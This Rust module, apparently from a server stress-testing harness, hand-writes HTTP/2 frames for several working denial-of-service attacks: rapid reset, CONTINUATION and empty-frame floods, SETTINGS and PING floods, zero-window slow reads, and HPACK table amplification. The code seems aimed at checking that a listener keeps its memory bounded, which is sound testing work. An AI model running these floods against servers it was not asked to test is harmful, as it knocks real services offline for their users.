//! Attacks by HTTP/2, with prior knowledge: frames written by hand, since no
//! library would send them.

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::sleep,
};

use crate::pressure::Attack;

const KIB: u64 = 1 << 10;

/// Streams that a client may have open at once, unless the listener says
/// otherwise. Each holds what is bounded for a stream: `send_buffer`, a piece
/// of the answer, and what was read of the instance.
const STREAMS: u64 = 100;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Types of frames (RFC 9113 section 6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A head, by the static table and literals that are not indexed (RFC 7541).
fn head(method: u8, path: &str) -> Vec<u8> {
    let length = |text: &str| u8::try_from(text.len()).expect("short");
    // :method, :scheme http, :path, :authority.
    [&[method, 0x86, 0x04, length(path)], path.as_bytes(), &[0x01, 1, b'a']].concat()
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

fn get(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &head(GET, path))
}

/// The preface, with settings as pairs of a number and a value.
async fn greet(stream: &mut TcpStream, settings: &[(u16, u32)]) -> std::io::Result<()> {
    let pair =
        |(name, value): &(u16, u32)| [&name.to_be_bytes()[..], &value.to_be_bytes()].concat();
    let settings: Vec<u8> = settings.iter().flat_map(pair).collect();
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &settings)).await
}

/// Writes what `piece` makes of the number of each turn, and takes what comes
/// without looking at it, until the other side has had enough.
async fn pour(
    stream: TcpStream,
    mut piece: impl FnMut(u32) -> Vec<u8> + Send,
) -> std::io::Result<()> {
    let (mut from, mut to) = stream.into_split();
    let reading = tokio::spawn(async move {
        let mut taken = [0; 16 * 1024];
        while from.read(&mut taken).await? > 0 {}
        Ok(())
    });
    let mut turn = 0;
    while !reading.is_finished() {
        to.write_all(&piece(turn)).await?;
        turn += 1;
        tokio::task::yield_now().await;
    }
    reading.await?
}

macro_rules! attack {
    ($name:literal, $clients:literal, $each:expr, $turn:expr) => {
        Attack {
            name: $name,
            clients: $clients,
            each: $each,
            listener: "",
            tls: false,
            greeting: b"",
            perform: |pressure, time| Box::pin(pressure.apply(time, $turn)),
        }
    };
}

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        attack!("h2: rapid reset", 100, 500 * KIB, |mut stream| async move {
            greet(&mut stream, &[]).await?;
            pour(stream, |turn| {
                let number = turn * 2 + 1;
                [get(number, "/"), frame(RST_STREAM, 0, number, &8_u32.to_be_bytes())].concat()
            })
            .await
        }),
        attack!("h2: CONTINUATION without an end", 100, 500 * KIB, |mut stream| async move {
            greet(&mut stream, &[]).await?;
            stream.write_all(&frame(HEADERS, END_STREAM, 1, &head(GET, "/"))).await?;
            let field = [&[0x00, 3], &b"x-a"[..], &[100], &[b'a'; 100]].concat().repeat(100);
            pour(stream, move |_| frame(CONTINUATION, 0, 1, &field)).await
        }),
        attack!("h2: empty CONTINUATION", 100, 500 * KIB, |mut stream| async move {
            greet(&mut stream, &[]).await?;
            stream.write_all(&frame(HEADERS, END_STREAM, 1, &head(GET, "/"))).await?;
            pour(stream, |_| frame(CONTINUATION, 0, 1, &[]).repeat(100)).await
        }),
        attack!("h2: empty DATA", 100, 500 * KIB, |mut stream| async move {
            greet(&mut stream, &[]).await?;
            stream.write_all(&frame(HEADERS, END_HEADERS, 1, &head(POST, "/"))).await?;
            pour(stream, |_| frame(DATA, 0, 1, &[]).repeat(100)).await
        }),
        attack!("h2: SETTINGS", 100, 500 * KIB, |mut stream| async move {
            greet(&mut stream, &[]).await?;
            pour(stream, |_| frame(SETTINGS, 0, 0, &[]).repeat(100)).await
        }),
        attack!("h2: PING, no answer read", 100, 500 * KIB, |mut stream| async move {
            greet(&mut stream, &[]).await?;
            loop {
                stream.write_all(&frame(PING, 0, 0, &[0; 8]).repeat(100)).await?;
            }
        }),
        attack!(
            "h2: streams that are never ended",
            500,
            STREAMS * 40 * KIB,
            |mut stream| async move {
                greet(&mut stream, &[]).await?;
                for number in 0..100 {
                    let post = frame(HEADERS, END_HEADERS, number * 2 + 1, &head(POST, "/"));
                    stream.write_all(&post).await?;
                }
                read_out(stream).await
            }
        ),
        attack!(
            "h2: a megabyte each, no window",
            40,
            STREAMS * 100 * KIB,
            |mut stream| async move {
                // SETTINGS_INITIAL_WINDOW_SIZE
                greet(&mut stream, &[(4, 0)]).await?;
                for number in 0..100 {
                    stream.write_all(&get(number * 2 + 1, "/big")).await?;
                }
                read_out(stream).await
            }
        ),
        attack!(
            "h2: a megabyte each, a byte at a time",
            40,
            STREAMS * 250 * KIB,
            |mut stream| async move {
                greet(&mut stream, &[(4, 0)]).await?;
                for number in 0..100 {
                    stream.write_all(&get(number * 2 + 1, "/big")).await?;
                }
                let (mut from, mut to) = stream.into_split();
                tokio::spawn(async move {
                    let mut taken = [0; 4096];
                    while from.read(&mut taken).await.is_ok_and(|count| count > 0) {}
                });
                loop {
                    for number in 0..100 {
                        let more = 1_u32.to_be_bytes();
                        to.write_all(&frame(WINDOW_UPDATE, 0, number * 2 + 1, &more)).await?;
                    }
                    sleep(Duration::from_millis(50)).await;
                }
            }
        ),
        attack!(
            "h2: a field of 4 KB, a hundred times by its index",
            100,
            9000 * KIB,
            |mut stream| async move {
                greet(&mut stream, &[]).await?;
                // Into the dynamic table with it: 3968 bytes, as a number of 7 bits
                // and more.
                let field = [&[0x40, 3][..], b"x-a", &[0x7f, 0x81, 0x1e], &[b'a'; 3968]].concat();
                let first = [head(POST, "/"), field].concat();
                stream.write_all(&frame(HEADERS, END_HEADERS, 1, &first)).await?;
                let more = [head(POST, "/"), vec![0xbe; 95]].concat();
                pour(stream, move |turn| frame(HEADERS, END_HEADERS, turn * 2 + 3, &more)).await
            }
        ),
    ]
}

async fn read_out(mut stream: TcpStream) -> std::io::Result<()> {
    let mut taken = [0; 4096];
    while stream.read(&mut taken).await? > 0 {}
    Ok(())
}
